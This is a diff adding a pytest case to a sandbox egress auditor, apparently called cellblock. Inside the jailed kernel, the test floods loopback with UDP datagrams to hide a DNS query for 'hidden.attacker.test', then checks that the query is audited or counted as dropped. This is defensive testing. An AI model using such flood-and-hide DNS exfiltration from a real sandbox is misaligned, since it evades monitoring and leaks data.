@@ -17,11 +17,12 @@ from types import SimpleNamespace
 from typing import Any
 
 import pytest
+from test_lifecycle import run_cell
 
 from cellblock.egress import sink as sink_mod
 from cellblock.egress.sink import NetSink
 
-from conftest import wait_for
+from conftest import audit_events, wait_for
 
 
 def _ipv4_udp(dst: str, port: int, payload: bytes) -> bytes:
@@ -58,3 +59,43 @@ def test_a_flood_is_read_at_a_bounded_rate_not_as_fast_as_the_jail_sends(
     assert sink.seen > budget
     counts = [e for e in events if e["event"] == "net.denied_count"]
     assert counts and counts[-1]["denied"] == sink.seen, counts
+
+
+
+@pytest.mark.jail
+@pytest.mark.nonroot
+async def test_a_query_hidden_behind_a_loopback_flood_is_audited_or_counted_as_dropped(
+        jupyter_env: dict[str, str], no_leftovers: None) -> None:
+    """The jail fills the sink's buffer with datagrams to its own loopback (never counted
+    as attempts), then sends a query: the kernel may drop the query unread, but then the
+    audit says that datagrams were dropped; before, the query could vanish without a trace."""
+    from jupyter_client.manager import AsyncKernelManager
+
+    km = AsyncKernelManager(kernel_name="cellblock-agent")
+    await km.start_kernel()
+    kc = km.client()
+    kc.start_channels()
+    try:
+        await kc.wait_for_ready(timeout=60)
+        out = await run_cell(kc, """
+import socket, struct
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(20000):
+    u.sendto(b"x", ("127.0.0.1", 9))
+q = struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0)
+q += b"\\x06hidden\\x08attacker\\x04test\\0\\0\\1\\0\\1"
+u.sendto(q, ("192.0.2.53", 53))
+print("done")
+""", timeout=120)
+        assert out["stdout"].strip() == "done", out
+    finally:
+        kc.stop_channels()
+        await km.shutdown_kernel(now=False)
+    events = audit_events(km.kernel_id)
+    audited = any(e.event == "net.denied" and e.fields.get("host") == "hidden.attacker.test"
+                  for e in events)
+    counts = [e.fields for e in events if e.event == "net.denied_count"]
+    dropped = counts[-1].get("dropped", 0) if counts else 0
+    assert audited or dropped > 0, counts
+    # 20,000 datagrams at once, where the sink reads 2,000 a second: the kernel dropped some
+    assert dropped > 0, counts
